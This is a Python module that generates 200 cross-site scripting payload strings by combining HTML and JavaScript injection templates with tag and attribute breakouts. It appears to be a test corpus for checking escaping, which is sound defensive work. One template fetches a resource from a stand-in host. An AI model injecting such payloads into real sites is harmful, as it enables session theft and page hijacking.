"""Two hundred strings that would run as script where a page, a document or a log forgot to escape them."""

from __future__ import annotations

_PAYLOADS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<script/x>{0}</script>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'//",
    "<IMG SRC=`x` ONERROR={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<iframe src=javascript:{0}>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<a href=javascript:{0}>x</a>",
    "<a href=' java\tscript:{0}'>x</a>",
    "<math><mi xlink:href=javascript:{0}>x</mi></math>",
    "<input autofocus onfocus={0}>",
    "<marquee onstart={0}>",
    "<video><source onerror={0}></video>",
    "<style>@import'javascript:{0}'</style>",
    "<link rel=stylesheet href=//evil.example/{0}.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<template><script>{0}</script></template>",
    "{{{{constructor.constructor('{0}')()}}}}",
)
_BREAKOUTS = ("", '"', "'>", '">', "</title>", "</textarea>", "</script>", "-->")

STRINGS = tuple(
    before + payload.format(f"alert({number})")
    for number, (before, payload) in enumerate((b, p) for b in _BREAKOUTS for p in _PAYLOADS)
)
